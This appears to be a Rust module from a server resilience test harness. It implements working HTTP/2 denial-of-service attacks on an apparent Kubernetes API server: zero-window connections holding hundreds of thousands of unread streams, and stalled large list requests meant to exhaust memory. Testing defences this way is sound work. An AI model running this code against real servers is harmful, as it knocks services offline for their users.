//! HTTP/2 streams whose client never reads: the flow-control window is zero from the start.

use std::sync::Arc;
use std::time::Duration;

use anyhow::{Context, Result};
use bytes::Bytes;
use h2::client::{ResponseFuture, SendRequest};
use hyper::{Method, Request};
use tokio::sync::Semaphore;
use tokio::task::{JoinHandle, JoinSet};
use tokio::time::timeout;
use windlass_testkit::{HttpClient, HttpProtocol};

use super::AttackGuard;
use super::target::AttackTarget;
use crate::bench::config_map;

/// Connections of the anonymous attack, and streams per connection.
const CONNECTIONS: usize = 200;
const STREAMS: usize = 990;
/// Number of concurrent connection setups.
const SETUPS: usize = 16;
/// Timeout for the server to allow another stream.
const STREAM_WAIT: Duration = Duration::from_millis(200);

/// Lists of the authenticated attack, and objects per list.
const LISTS: usize = 50;
const OBJECTS: usize = 2_000;
const OBJECT_SIZE: usize = 1_500;
const CLIENTS: usize = 8;
/// Timeout for the response headers.
const ANSWERS: Duration = Duration::from_secs(15);
const MAPS: &str = "/api/v1/namespaces/attack/configmaps";

/// Response formats of a list.
const FORMS: [&str; 4] = [
    "application/json",
    "application/yaml",
    "application/json;as=Table;g=meta.k8s.io;v=v1",
    "application/json;as=PartialObjectMetadataList;g=meta.k8s.io;v=v1",
];

/// A connection whose responses are not read. Pings are answered.
struct StalledConnection {
    sender: SendRequest<Bytes>,
    driver: JoinHandle<()>,
    open: Vec<ResponseFuture>,
}

impl Drop for StalledConnection {
    fn drop(&mut self) {
        self.driver.abort();
    }
}

impl StalledConnection {
    async fn connect(client: &HttpClient) -> Result<Self> {
        let stream = client.negotiate(HttpProtocol::Http2).await?;
        let mut builder = h2::client::Builder::new();
        builder.initial_window_size(0).initial_max_send_streams(STREAMS);
        let (sender, connection) = builder.handshake(stream).await?;
        let driver = tokio::spawn(async move {
            let _ = connection.await;
        });
        Ok(Self { sender, driver, open: Vec::new() })
    }

    /// Opens another stream, if the server allows it within the timeout.
    async fn get(&mut self, client: &HttpClient, path: &str, accept: &str) -> Result<()> {
        let ready = timeout(STREAM_WAIT, self.sender.clone().ready()).await?;
        let mut request = Request::get(format!("{}{path}", client.url())).header("accept", accept);
        if let Some(authorization) = client.authorization() {
            request = request.header("authorization", authorization);
        }
        let (response, _) = ready?.send_request(request.body(())?, true)?;
        self.open.push(response);
        Ok(())
    }
}

/// Sends hundreds of thousands of anonymous requests for the version.
pub async fn stall_anonymous(target: &AttackTarget) -> Result<AttackGuard> {
    let places = Arc::new(Semaphore::new(SETUPS));
    let mut connections = JoinSet::new();
    for _ in 0..CONNECTIONS {
        let (client, places) = (target.anonymous.clone(), places.clone());
        connections.spawn(async move {
            let _place = places.acquire().await?;
            // A server that defends itself closes, rejects or resets; the attack has not failed.
            let Ok(mut stalled) = StalledConnection::connect(&client).await else {
                return Ok(None);
            };
            for _ in 0..STREAMS {
                if stalled.get(&client, "/version", "*/*").await.is_err() {
                    break;
                }
            }
            anyhow::Ok(Some(stalled))
        });
    }
    let mut held = Vec::new();
    while let Some(connection) = connections.join_next().await {
        held.extend(connection??);
    }
    let streams: usize = held.iter().map(|stalled| stalled.open.len()).sum();
    eprintln!("attack:   {} connections, {streams} requests", held.len());
    Ok(Box::new(held))
}

/// Creates the objects to be listed.
pub async fn fill(target: &AttackTarget) -> Result<AttackGuard> {
    let mut connection = target.honest.connect_with(HttpProtocol::Http1).await?;
    let namespace = r#"{"apiVersion":"v1","kind":"Namespace","metadata":{"name":"attack"}}"#;
    connection.expect(Method::POST, "/api/v1/namespaces", namespace.into()).await?;
    let mut workers = JoinSet::new();
    for worker in 0..CLIENTS {
        let client = target.honest.clone();
        workers.spawn(async move {
            let mut connection = client.connect_with(HttpProtocol::Http1).await?;
            for number in (worker..OBJECTS).step_by(CLIENTS) {
                let body = config_map(&format!("listed-{number}"), OBJECT_SIZE, 0);
                connection.expect(Method::POST, MAPS, body).await?;
            }
            anyhow::Ok(())
        });
    }
    while let Some(worker) = workers.join_next().await {
        worker??;
    }
    Ok(Box::new(()))
}

/// Requests large lists in every format, over one connection.
pub async fn stall_lists(target: &AttackTarget) -> Result<AttackGuard> {
    let mut stalled = StalledConnection::connect(&target.attacker).await.context("no connection")?;
    for number in 0..LISTS {
        let form = FORMS[number % FORMS.len()];
        if stalled.get(&target.attacker, MAPS, form).await.is_err() {
            break;
        }
    }
    let mut bodies = Vec::new();
    // A server that builds whole lists uses all memory before the first byte.
    let answers = async {
        for response in stalled.open.drain(..) {
            bodies.extend(response.await.ok());
        }
    };
    let _ = timeout(ANSWERS, answers).await;
    eprintln!("attack:   {} of {LISTS} lists of {OBJECTS} objects answered", bodies.len());
    Ok(Box::new((stalled, bodies)))
}

/// Deletes the objects that `fill` has created.
pub async fn clean(target: &AttackTarget) -> Result<()> {
    let mut connection = target.honest.connect_with(HttpProtocol::Http1).await?;
    connection.expect(Method::DELETE, MAPS, Bytes::new()).await?;
    connection.expect(Method::DELETE, "/api/v1/namespaces/attack", Bytes::new()).await?;
    Ok(())
}
